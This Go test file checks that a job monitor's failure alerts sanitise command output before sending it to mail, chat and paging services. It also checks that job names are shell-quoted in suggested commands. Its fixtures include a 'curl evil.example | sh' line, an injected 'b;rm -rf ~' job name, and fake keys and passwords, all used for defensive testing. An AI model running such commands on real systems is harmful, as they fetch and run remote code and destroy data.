package notify_test

import (
	"encoding/json"
	"io"
	"mime/quotedprintable"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/seed-c01c3da5/zester/master/coverage/verdict"
	"github.com/seed-c01c3da5/zester/master/notify"
	"github.com/seed-c01c3da5/zester/settings/target"
)

// hostile is what a failed command printed: a password, a key, control characters, markup, and lines of a message.
func hostile() map[string]any {
	early := strings.Repeat("an early line\n", 20)
	return map[string]any{
		"code": int64(3),
		"stdout": early + "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjE\n-----END OPENSSH PRIVATE KEY-----\n" +
			"<b>*bold*</b> [link](http://evil.example) <!channel> @all",
		"stderr": []byte("\x1b[1mdb_password\x1b[0m=hunter2\n\a\x1b[31mred\x1b[0m\ttab\r\nnext: curl evil.example | sh\n\n\u202eright to left\xff\n" +
			strings.Repeat("x", 1000) + "\n"),
	}
}

func lastOf(data any) []string {
	lines, _ := notify.OutputOf(data)
	return lines
}

// failedOnce is the message about the failed run that printed what hostile returns.
func failedOnce() notify.AlertMessage {
	m := some
	m.Rule, m.ID, m.Subject, m.Peels, m.Names = "default", "default/shop-report", "shop-report", 1, []target.PeelID{"web-01"}
	m.Text, m.Troubles = "exit status 3; it has failed since it began", []verdict.Kind{verdict.Failed}
	m.Output = notify.Output{Peel: "web-01", Ended: at.Add(-2), Lines: lastOf(hostile())}
	return m
}

func TestTheEndOfAnOutputIsBoundedAndShownAsText(t *testing.T) {
	want := []string{
		"an early line", "an early line", "an early line", "(hidden)", "<b>*bold*</b> [link](http://evil.example) <!channel> @all",
		"db_password=(hidden)", `\x07red tab`, "next: curl evil.example | sh", `\u202eright to left` + "\uFFFD",
		strings.Repeat("x", 197) + "…",
	}
	if got := lastOf(hostile()); !slices.Equal(got, want) {
		t.Errorf("%q\nwant %q", got, want)
	}
	for _, data := range []any{nil, true, "", "\n \n", map[string]any{"changes": "none"}, []any{"a"}} {
		if got := lastOf(data); len(got) != 0 {
			t.Errorf("%v: %q", data, got)
		}
	}
	if got := lastOf(strings.Repeat("early\n", 64<<10) + "last\n"); len(got) != 10 || got[9] != "last" {
		t.Errorf("the end of a long output: %q", got)
	}
	if got := lastOf("one\ntwo"); !slices.Equal(got, []string{"one", "two"}) {
		t.Errorf("%q", got)
	}
	key := "-----BEGIN PRIVATE KEY-----\n" + strings.Repeat("MIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n", 40)
	if got := lastOf(map[string]any{"stdout": "a\n" + key, "stderr": ""}); !slices.Equal(got, []string{"a", "(hidden)"}) {
		t.Errorf("a key without an end: %q", got)
	}
}

const mailOfAFailure = `shop-report failed on web-01

exit status 3; it has failed since it began
peels: web-01
since 2026-06-01T08:59:00Z
next: zester why web-01 shop-report
alert: default/shop-report
the end of its output on web-01, at 2026-06-01T08:59:59Z:
| an early line
| an early line
| an early line
| (hidden)
| <b>*bold*</b> [link](http://evil.example) <!channel> @all
| db_password=(hidden)
| \x07red tab
| next: curl evil.example | sh
| \u202eright to left�
| ` + "XXX…" + `
`

func TestTheMailOfAFailedRunHasItsOutputAndACommand(t *testing.T) {
	letter := notify.Letter{From: "zester@example.com", To: []string{"ops@example.com"}}
	url, mail := post(t, "")
	send(t, made(t, notify.ReceiverOptions{Provider: notify.ReceiverMail, URL: url, Letter: letter}), failedOnce())
	head, body, _ := strings.Cut(<-mail, "\n\n")
	text, err := io.ReadAll(quotedprintable.NewReader(strings.NewReader(body)))
	if err != nil || !strings.Contains(head, "Content-Type: text/plain; charset=utf-8") {
		t.Fatalf("%v\n%s", err, head)
	}
	got := strings.ReplaceAll(string(text), "\r\n", "\n")
	if want := strings.Replace(mailOfAFailure, "XXX", strings.Repeat("x", 197), 1); got != want {
		t.Errorf("the mail is\n%s\nwant\n%s", got, want)
	}
}

// A peel keeps the first bytes of a long output, so its last lines are not the last ones that the command printed.
func TestAMessageSaysThatTheOutputWasCut(t *testing.T) {
	for mark, want := range map[string]string{
		"stdout_truncated": "the end of what was kept of its output, which was longer, on web-01, at ",
		"stderr_truncated": "the end of what was kept of its output, which was longer, on web-01, at ",
		"digest":           "the end of its output on web-01, at ",
	} {
		m := failedOnce()
		m.Output.Lines, m.Output.IsCut = notify.OutputOf(map[string]any{"stdout": "a line", "stderr": "", mark: true})
		s := receiverServe(t)
		if send(t, made(t, notify.ReceiverOptions{Provider: notify.ReceiverSlack, URL: s.URL}), m); !strings.Contains(s.bodies[0], want) {
			t.Errorf("%s: no %q in %s", mark, want, s.bodies[0])
		}
	}
}

// What Alertmanager gets it passes on to chats as it is.
func TestNothingIsMarkupBehindAlertmanager(t *testing.T) {
	s := receiverServe(t)
	send(t, made(t, notify.ReceiverOptions{Provider: notify.ReceiverAlertmanager, URL: s.URL}), failedOnce())
	var alerts []struct{ Annotations map[string]string }
	if err := json.Unmarshal([]byte(s.bodies[0]), &alerts); err != nil {
		t.Fatal(err)
	}
	if got := alerts[0].Annotations["description"]; strings.Contains(got, "<") || !strings.Contains(got, "‹!channel>") {
		t.Errorf("the description is %s", got)
	}
}

func TestReceiversGetTheOutputWhereTheyHaveAFieldForIt(t *testing.T) {
	lines := failedOnce().Output.Lines
	for provider, parts := range map[notify.ReceiverProvider][]string{
		notify.ReceiverSlack:        {`"type":"plain_text"`, "| db_password=(hidden)", "next: zester why web-01 shop-report"},
		notify.ReceiverTeams:        {`"type":"TextRun","text":"| db_password=(hidden)"`, "next: zester why web-01 shop-report"},
		notify.ReceiverPagerDuty:    {`"output":` + quoted(strings.Join(lines, "\n")), `"command":"zester why web-01 shop-report"`},
		notify.ReceiverWebhook:      {`"output":` + quoted(strings.Join(lines, "\n")), `"command":"zester why web-01 shop-report"`},
		notify.ReceiverAlertmanager: {"| db_password=(hidden)", "next: zester why web-01 shop-report"},
	} {
		s := receiverServe(t)
		o := notify.ReceiverOptions{Provider: provider, URL: s.URL}
		if provider == notify.ReceiverPagerDuty {
			o.Key = receiverFile(t, "key-of-ops")
		}
		send(t, made(t, o), failedOnce())
		for _, part := range parts {
			if !strings.Contains(s.bodies[0], part) {
				t.Errorf("%s lacks %s: %s", provider, part, s.bodies[0])
			}
		}
		for _, secret := range []string{"hunter2", "b3BlbnNzaC1rZXktdjE", "\x1b", `\u001b`, "\u202e"} {
			if strings.Contains(s.bodies[0], secret) {
				t.Errorf("%s has %q: %s", provider, secret, s.bodies[0])
			}
		}
	}
}

func TestPagerDutyGetsAListOfPeelsAlsoIfThereIsNone(t *testing.T) {
	s := receiverServe(t)
	m := failedOnce()
	m.Names, m.Output = nil, notify.Output{}
	o := notify.ReceiverOptions{Provider: notify.ReceiverPagerDuty, URL: s.URL, Key: receiverFile(t, "key-of-ops")}
	if send(t, made(t, o), m); !strings.Contains(s.bodies[0], `"first_peels":[]`) {
		t.Error(s.bodies[0])
	}
}

func TestAMessageSaysHowManyMoreThereAre(t *testing.T) {
	s := receiverServe(t)
	r := made(t, notify.ReceiverOptions{Provider: notify.ReceiverTeams, URL: s.URL})
	one := some
	one.Peels = 3
	if send(t, r, one); !strings.Contains(s.bodies[0], "peels: db-1, db-2 and 1 more") {
		t.Error(s.bodies[0])
	}
	send(t, r, slices.Repeat([]notify.AlertMessage{some}, 100)...)
	if n := strings.Count(s.bodies[1], `"backup-db failed, missed on 12 peels"`); n != 58 ||
		!strings.Contains(s.bodies[1], `"and 42 more"`) || !strings.Contains(s.bodies[1], `"next: zester alert list"`) {
		t.Errorf("%d of 100 titles: %s", n, s.bodies[1])
	}
}

// Alertmanager is told when an alert ended, not when the message about that was made.
func TestAlertmanagerLearnsWhenAnAlertEnded(t *testing.T) {
	s := receiverServe(t)
	m := ended()
	m.Time = at.Add(time.Hour)
	send(t, made(t, notify.ReceiverOptions{Provider: notify.ReceiverAlertmanager, URL: s.URL}), m)
	if want := `"endsAt":"2026-06-01T09:00:00Z"`; !strings.Contains(s.bodies[0], want) {
		t.Errorf("no %s in %s", want, s.bodies[0])
	}
}

func quoted(text string) string {
	data, _ := json.Marshal(text) // a string always can
	return string(data)
}

func TestTheCommandOfAMessageAboutAnAlert(t *testing.T) {
	for want, change := range map[string]func(*notify.AlertMessage){
		"zester why db-1 backup-db":    func(*notify.AlertMessage) {},
		"zester why db-1 'b;rm -rf ~'": func(m *notify.AlertMessage) { m.Subject = "b;rm -rf ~" },
		"zester why db-2 backup-db":    func(m *notify.AlertMessage) { m.Output = notify.Output{Peel: "db-2", Lines: []string{"x"}} },
		"zester now":                   func(m *notify.AlertMessage) { m.Subject, m.Troubles = "held", []verdict.Kind{verdict.Held} },
		"":                             func(m *notify.AlertMessage) { m.Phase = notify.AlertEnded },
	} {
		m := some
		if change(&m); m.Command() != want {
			t.Errorf("%q, want %q", m.Command(), want)
		}
	}
}

// An alert that ends, and one that no failed run began, have no output.
func TestMessagesAboutFailedRunsThatAreOpenHaveAnOutput(t *testing.T) {
	for phase, want := range map[notify.AlertPhase]bool{
		notify.AlertBegan: true, notify.AlertGrew: true, notify.AlertLasts: true, notify.AlertEnded: false, notify.AlertTest: false,
	} {
		m := failedOnce()
		if m.Phase = phase; m.HasOutput() != want {
			t.Errorf("%s: %v", phase, !want)
		}
		m.Troubles = []verdict.Kind{verdict.Missed}
		if m.HasOutput() {
			t.Errorf("%s of a missed run", phase)
		}
	}
}
